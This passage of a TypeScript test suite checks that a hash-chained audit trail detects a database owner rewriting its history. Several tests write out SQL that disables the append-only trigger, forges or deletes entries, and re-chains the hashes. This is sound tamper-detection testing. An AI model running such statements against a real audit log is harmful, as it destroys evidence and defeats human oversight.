      detail: { seq: head.seq, hash: head.hash, from: 1, ...shape() },
    });
    await expect(
      trail.append({ action: 'checkpoint', detail: { ...first.detail, seq: first.seq, hash: first.hash } }),
    ).rejects.toThrow(/token is on the trail already/);
    expect(first.actor).toBe('beto');
    // The next one starts at the trail's first entry or right after an earlier checkpoint's stretch: stamping again
    // the stretch of one whose token is junk (anyone may write one) is taken; starting anywhere else is refused.
    await expect(
      trail.append({ action: 'checkpoint', detail: { seq: first.seq, hash: first.hash, from: 2, ...shape() } }),
    ).rejects.toThrow(/a checkpoint covers/);
    const again = await trail.append({
      action: 'checkpoint',
      detail: { seq: first.seq, hash: first.hash, from: 1, ...shape() },
    });
    await trail.append({
      action: 'checkpoint',
      detail: { seq: again.seq, hash: again.hash, from: head.seq + 1, ...shape() },
    });
    expect(await trail.verify()).toEqual({ ok: true });
  });
});

describe('the owner rewrites history', () => {
  it('is seen by a running app (how fast: bench/trail.bench.ts), and never called intact again; a fresh app with its witness sees it too', async () => {
    const store = new MemoryJsonStore();
    const alarms: number[] = [];
    const app = recordForApp(logins.ana, {
      environment: () => 'production',
      store,
      log: { info: () => undefined, warn: () => undefined, error: () => undefined } as never,
      onTrailBroken: () => alarms.push(Date.now()),
    });
    try {
      await app.audit.append({ interviewId: 'i2', action: 'opened', detail: {} });
      await app.audit.append({ interviewId: 'i2', action: 'played', detail: { positionSeconds: 1 } });
      expect(await app.audit.verify()).toEqual({ ok: true });

      // The owner turns the append-only trigger off and changes an entry in the middle, hash and all re-chained.
      await owner.query(`alter table audit_entries disable trigger audit_entries_append_only`);
      await owner.query(`update audit_entries set detail = '{"forged":true}' where seq = 1`);
      await rechainTrail(owner);
      await owner.query(`alter table audit_entries enable trigger audit_entries_append_only`);

      await expect.poll(() => alarms.length, { timeout: 5_000, interval: 20 }).toBe(1);
      expect(app.record.link()).toMatchObject({ trail: { ok: false } });
      expect(await app.audit.verify()).toMatchObject({ ok: false, rewritten: true });
    } finally {
      await app.stop();
    }
    // A restart with the same data folder: the witness kept what it saw, so the re-chained trail is not intact.
    const again = recordAuditTrail(raw('beto'), () => 'production', undefined, {
      load: () => store.get<Record<string, WitnessedHead>>(WITNESS_KEY)?.[logins.ana.identity],
      save: () => undefined,
    });
    expect(await again.verify()).toMatchObject({ ok: false, rewritten: true });
  }, 30_000);
});

describe('a trail cut back (a restore from an older backup), then changed again', () => {
  it('keeps its alarm and still sees a later change: an app in alarm goes on watching (red team 22)', async () => {
    const store = new MemoryJsonStore();
    const witness = storeWitness(store, 'restored');
    const trailOf = () => recordAuditTrail(raw('ana'), () => 'production', undefined, witness);
    const withTriggersOff = async (statement: string) => {
      await owner.query(`alter table audit_entries disable trigger audit_entries_append_only`);
      await owner.query(statement);
      await owner.query(`alter table audit_entries enable trigger audit_entries_append_only`);
    };
    let trail = trailOf();
    await trail.append({ interviewId: 'i2', action: 'opened', detail: {} });
    await trail.append({ interviewId: 'i2', action: 'played', detail: { positionSeconds: 2 } });
    expect(await trail.verify()).toEqual({ ok: true });
    const head = (await trail.latest())!.seq;

    await withTriggersOff(`delete from audit_entries where seq > ${head - 2}`);
    expect(await trail.verify()).toMatchObject({ ok: false, brokenAt: head, rewritten: true });
    // The team carries on; this app, started again, still says the history it saw is gone.
    trail = trailOf();
    await trail.append({ interviewId: 'i2', action: 'opened', detail: {} });
    expect(await trail.verify()).toMatchObject({ ok: false, brokenAt: head, rewritten: true });
    expect(witness.load()).toMatchObject({ count: head - 1, rewritten: { brokenAt: head } });

    // A rewrite after the alarm, re-chained: seen, at the head this app verified since.
    await owner.query(`alter table audit_entries disable trigger audit_entries_append_only`);
    await owner.query(`update audit_entries set detail = '{"forged":"after the restore"}' where seq = 1`);
    await rechainTrail(owner);
    await owner.query(`alter table audit_entries enable trigger audit_entries_append_only`);
    expect(await trail.verify()).toMatchObject({ ok: false, brokenAt: head - 1, rewritten: true });
  });
});

describe('the owner changes one entry and leaves the hashes', () => {
  it('is seen by a running app from the rows changed since its last check (how fast: bench/trail.bench.ts)', async () => {
    const alarms: number[] = [];
    const app = recordForApp(logins.beto, {
      environment: () => 'production',
      store: new MemoryJsonStore(),
      log: { info: () => undefined, warn: () => undefined, error: () => undefined } as never,
      onTrailBroken: () => alarms.push(Date.now()),
    });
    // In one transaction of a session of its own, as an owner at psql would.
    const psql = new pg.Client({
      host: server.host,
      port: server.port,
      user: 'omni_owner',
      password: 'change-me-owner',
      database,
    });
    await psql.connect();
    try {
      // A fresh witness takes the trail as it is now (consistent again after the re-chain above) and watches on.
      expect(await app.audit.verify()).toEqual({ ok: true });
      await app.audit.append({ interviewId: 'i2', action: 'opened', detail: {} });
      await psql.query(`begin;
        alter table audit_entries disable trigger audit_entries_append_only;
        update audit_entries set action = 'downloaded' where seq = 2;
        alter table audit_entries enable trigger audit_entries_append_only;
        commit;`);
      await expect.poll(() => alarms.length, { timeout: 5_000, interval: 20 }).toBe(1);
      expect(await app.audit.verify()).toMatchObject({ ok: false, brokenAt: 2, rewritten: true });
    } finally {
      await psql.end();
      await app.stop();
    }
  });
});

describe('the whole trail, walked on a thread of its own', () => {
  it('finds what the owner changed while no app watched, as the walk in main does, and goes on from a verified head', async () => {
    // Left by the test above: entry 2 changed, its hash left as it was.
    expect(logins.beto.threadConnection).toBeDefined();
    const walk = walkInThread(logins.beto.threadConnection!);
    expect(await walk({ count: 0, hash: GENESIS_HASH })).toEqual({ ok: false, brokenAt: 2 });
    expect(await recordAuditTrail(raw('beto'), () => 'production').verify()).toEqual({ ok: false, brokenAt: 2 });
    // A fresh app's first check is the whole trail, on the thread.
    const fresh = recordForApp(logins.sofia, {
      environment: () => 'production',
      store: new MemoryJsonStore(),
      log: { info: () => undefined, warn: () => undefined, error: () => undefined } as never,
    });
    try {
      expect(await fresh.audit.verify()).toEqual({ ok: false, brokenAt: 2 });
    } finally {
      await fresh.stop();
    }
    // From entry 2's stored hash on, the chain holds: the walk ends at the head, as the database has it.
    const heads = await raw('beto')
      .selectFrom('audit_entries')
      .select(['seq', 'hash'])
      .where('seq', 'in', [2, sql<number>`(select max(seq) from audit_entries)`])
      .orderBy('seq')
      .execute();
    expect(await walk({ count: 2, hash: heads[0]!.hash })).toEqual({
      ok: true,
      count: heads.at(-1)!.seq,
      hash: heads.at(-1)!.hash,
    });
  });
});
